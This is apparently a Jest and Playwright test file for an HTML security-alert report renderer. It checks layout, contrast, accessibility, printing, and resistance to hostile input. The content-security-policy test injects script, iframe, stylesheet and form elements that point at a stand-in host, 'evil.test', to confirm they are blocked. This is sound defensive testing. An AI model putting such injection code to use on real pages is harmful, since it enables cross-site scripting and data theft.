import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { reportOf } from '../../functions/alert/report/report.ts';
import type { Alert } from '../../functions/contract/alert.ts';
import { SEVERITIES } from '../../functions/contract/vocabulary.ts';
import { launch } from '../../tools/browser/launch.ts';
import { BARE } from '../alert/examples.ts';
import { poisoned } from '../alert/poison.ts';
import { BLIND, DENIED, INTRUSION, ROUTINE, SAMPLES } from '../alert/report-samples.ts';
import {
  CONTENT,
  CONTRAST,
  type Content,
  type Contrast,
  LAYOUT,
  type Layout,
  STRUCTURE,
  type Structure,
} from './measure.ts';
import { OUR_ATTRIBUTES, OUR_ELEMENTS, OUR_LINKS, PHONE, WIDTHS } from './ours.ts';
import { type Look, measured, Viewer } from './page.ts';
import { PAYLOADS } from './payloads.ts';

let browser: Browser;
let viewer: Viewer;
beforeAll(async () => {
  browser = await launch();
  viewer = await Viewer.on(browser);
});
afterAll(() => browser?.close());

describe.each(Object.entries(SAMPLES))('the report "%s"', (_, alert) => {
  const html = reportOf(alert);

  test.each(WIDTHS)('fits, with nothing cut off or on top of another, at $width $media', async (look) => {
    const { texts, ...layout } = await measured<Layout>(viewer, html, LAYOUT, look);
    expect(layout).toEqual({ scrolls: false, outside: [], clipped: [], overlaps: [] });
    expect(texts).toBeGreaterThan(20);
  });

  test.each<Look>([{ colorScheme: 'light' }, { colorScheme: 'dark' }, { colorScheme: 'dark', media: 'print' }])(
    'can be read by contrast: $colorScheme $media',
    async (look) => {
      const { weak, page } = await measured<Contrast>(viewer, html, CONTRAST, look);
      expect(weak).toEqual([]);
      expect(page).toBe(
        look.colorScheme === 'dark' && look.media !== 'print' ? 'rgb(17, 21, 26)' : 'rgb(255, 255, 255)',
      );
    },
  );

  test('has headings, landmarks and names for who does not see it', async () => {
    const { headings, title, ...structure } = await measured<Structure>(viewer, html, STRUCTURE);
    expect(structure).toEqual({
      landmarks: ['header', 'nav', 'main', 'footer'],
      unnamed: [],
      drawings: 0,
      tables: 0,
      duplicates: [],
      ambiguous: [],
      broken: [],
      language: 'en',
    });
    expect(title).toMatch(/^[A-Z]+: /);
    expect(headings.filter((level) => level === 1)).toHaveLength(1);
    for (const [index, level] of headings.entries()) expect(level - (headings[index - 1] ?? 0)).toBeLessThanOrEqual(1);
  });
});

test.each(SEVERITIES)('the accent of %s has contrast in both schemes', async (severity) => {
  const alert: Alert = { ...INTRUSION, assessment: { score: 60, indicators: [], ...INTRUSION.assessment, severity } };
  for (const colorScheme of ['light', 'dark'] as const)
    expect((await measured<Contrast>(viewer, reportOf(alert), CONTRAST, { colorScheme })).weak).toEqual([]);
});

test('prints on paper', async () => {
  await viewer.show(reportOf(INTRUSION));
  const pdf = await viewer.page.pdf({ format: 'A4' });
  const pages = pdf.toString('latin1').match(/\/Type\s*\/Page[^s]/g)?.length ?? 0;
  expect(pages).toBeGreaterThan(4);
  expect(pages).toBeLessThan(20);
});

describe('hostile text', () => {
  const victims: [string, Alert][] = [
    ['an intrusion', INTRUSION],
    ['an attempt', DENIED],
    ['ordinary work', ROUTINE],
    ['no answers', BLIND],
    ['a bare alert', { ...BARE, investigationFailed: 'x' }],
  ];

  /** With and without the policy, which would stop a script that the escaping let through. */
  const variants = (alert: Alert): string[] => {
    const html = reportOf(alert);
    const open = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    expect(open).not.toBe(html);
    return [html, open];
  };

  test.each(victims)('in every field of %s neither runs, loads, nor makes an element', async (_, alert) => {
    for (const payload of PAYLOADS)
      for (const everything of [false, true])
        for (const html of variants(poisoned(alert, payload, { everything }))) {
          const content = await measured<Content>(viewer, html, CONTENT);
          expect(content.elements.filter((name) => !OUR_ELEMENTS.has(name))).toEqual([]);
          expect(content.attributes.filter((name) => !OUR_ATTRIBUTES.has(name))).toEqual([]);
          expect(content.links.filter((link) => !OUR_LINKS.test(link))).toEqual([]);
          expect(content).toMatchObject({ pwned: false, comments: false });
        }
  });

  test('makes no difference to the number of elements', async () => {
    const counts = new Set<number>();
    for (const payload of PAYLOADS.filter((text) => /[<"]/.test(text))) {
      const html = reportOf(poisoned(INTRUSION, `%${payload}%`));
      counts.add((await measured<Content>(viewer, html, CONTENT)).count);
    }
    expect(counts.size).toBe(1);
  });

  test('does not push the page out of shape', async () => {
    for (const text of ['x'.repeat(3_000), '\u0301'.repeat(500), '  \n'.repeat(300), `${'a-'.repeat(40)} `.repeat(20)])
      for (const width of [PHONE, 1280]) {
        const { texts, ...layout } = await measured<Layout>(viewer, reportOf(poisoned(INTRUSION, text)), LAYOUT, {
          width,
        });
        expect(layout).toEqual({ scrolls: false, outside: [], clipped: [], overlaps: [] });
        expect(texts).toBeGreaterThan(20);
      }
  });
});

describe('the content security policy', () => {
  test('is in force: what somebody managed to put in would not run, load or look otherwise', async () => {
    await viewer.show(reportOf(INTRUSION));
    const script = `(() => {
      const put = (name, attributes, text) => {
        const element = document.createElement(name);
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
        element.textContent = text ?? '';
        document.body.append(element);
        return element;
      };
      put('script', {}, 'window.pwned = 1');
      put('script', { src: 'https://evil.test/a.js' });
      put('img', { src: 'https://evil.test/b.png' });
      put('iframe', { src: 'https://evil.test/c.html' });
      put('style', {}, 'h1 { color: rgb(1, 2, 3) }');
      put('link', { rel: 'stylesheet', href: 'https://evil.test/d.css' });
      put('p', { style: 'color: rgb(1, 2, 3)', id: 'styled' });
      put('button', { onclick: 'window.pwned = 1' }).click();
      const form = put('form', { action: 'https://evil.test/e' });
      form.submit();
      return new Promise((resolve) => setTimeout(() => resolve({
        pwned: 'pwned' in window,
        colors: [getComputedStyle(document.querySelector('h1')).color, getComputedStyle(document.getElementById('styled')).color],
      }), 300));
    })()`;
    const result = (await viewer.page.evaluate(script)) as { pwned: boolean; colors: string[] };
    expect(result.pwned).toBe(false);
    expect(result.colors).not.toContain('rgb(1, 2, 3)');
    expect(viewer.requests).toEqual([]);
    // The browser says of each that it was refused.
    expect(viewer.incidents.filter((text) => /Content Security Policy/i.test(text)).length).toBeGreaterThanOrEqual(8);
  });

  test('lets the report have its own style', async () => {
    const [color, family] = await measured<string[]>(
      viewer,
      reportOf(INTRUSION),
      `[getComputedStyle(document.body).borderTopColor, getComputedStyle(document.querySelector('code')).fontFamily]`,
    );
    expect(color).toBe('rgb(163, 18, 43)');
    expect(family).toContain('monospace');
  });
});
